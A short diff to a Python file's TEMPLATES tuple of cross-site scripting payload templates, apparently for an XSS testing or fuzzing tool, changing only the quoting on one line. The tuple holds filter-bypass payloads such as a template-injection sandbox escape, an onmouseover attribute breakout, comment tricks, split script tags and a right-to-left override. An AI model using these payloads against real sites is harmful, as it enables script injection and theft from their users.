@@ -29,7 +29,7 @@ TEMPLATES = (
     "{{{{constructor.constructor('{js}')()}}}}",
     "<template><script>{js}</script></template>",
     "https://x.example/'onmouseover='{js}",
-    "https://x.example/\"onmouseover=\"{js}",
+    'https://x.example/"onmouseover="{js}',
     "<!--><script>{js}</script>-->",
     "<scr<script>ipt>{js}</scr</script>ipt>",
     "\u202e<script>{js}</script>",
